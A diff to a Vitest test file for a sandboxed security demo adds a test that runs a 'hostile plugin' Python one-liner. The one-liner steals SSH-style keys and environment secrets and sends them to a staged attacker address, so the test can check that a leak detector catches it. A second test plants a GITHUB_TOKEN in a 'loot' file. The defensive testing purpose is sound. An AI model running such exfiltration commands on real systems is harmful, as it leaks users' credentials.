@@ -1,12 +1,13 @@
 import { spawn } from "node:child_process";
-import { mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
 import { buildOoo } from "../../packages/cli/test/build.ts";
 import { findSecret } from "../demo/find-secret.ts";
 import { openLayout } from "../demo/layout.ts";
-import { runSteps } from "../demo/run-steps.ts";
+import { runCommand } from "../demo/run-command.ts";
+import { proveNothingLeaked, runSteps } from "../demo/run-steps.ts";
 import { openStage, type Stage } from "../demo/stage.ts";
 import { findProblem, type Step } from "../demo/step.ts";
 import { stepsOn } from "../demo/steps.ts";
@@ -100,6 +101,30 @@ describe("the guided demo", { timeout: 180_000 }, () => {
     const secrets = new Map([["the key", "0123456789abcdef0123456789abcdef"]]);
     expect(findSecret(secrets, `some ${form("0123456789abcdef0123456789abcdef")} text`)).toBe("the key");
     expect(findSecret(secrets, `some ${form("0123456789abcdee0123456789abcdee")} text`)).toBeUndefined();
+  });
+
+  it("has a hostile plugin that gets what it looks for where nobody stops it", async () => {
+    const stage = await aStage();
+    const words = JSON.stringify(stage.attacker.split(":"));
+    const program = `
+import os, main
+home = os.environ["HOME"]
+main.send_away(main.steal_keys(home, home) + main.steal_environment(), *${words})`;
+    const line = `PYTHONPATH="${join(import.meta.dirname, "../demo/hostile")}" python3 -B -c '${program}'`;
+    const outcome = await runCommand({ line, shows: [] }, stage, new AbortController().signal);
+    const found = [...stage.secrets].filter((secret) => findSecret(new Map([secret]), outcome.output));
+    expect(found).toEqual([...stage.secrets]);
+    expect(outcome.output).toMatch(/^a socket to the attacker +sent$/m);
+    expect(() => proveNothingLeaked(stage)).toThrow("something reached the attacker");
+  });
+
+  it("fails where a secret lies in the home of ooo, and where nobody used the token", async () => {
+    const stage = await aStage();
+    expect(() => proveNothingLeaked(stage)).toThrow("the server never saw the token");
+    const path = join(stage.home, ".ouroboros/store/loot");
+    mkdirSync(dirname(path), { recursive: true });
+    writeFileSync(path, `x${stage.env.GITHUB_TOKEN ?? ""}`);
+    expect(() => proveNothingLeaked(stage)).toThrow(`${path} holds the token in the environment`);
   });
 
   it("fails where the ledger was not edited, and so verifies", async () => {
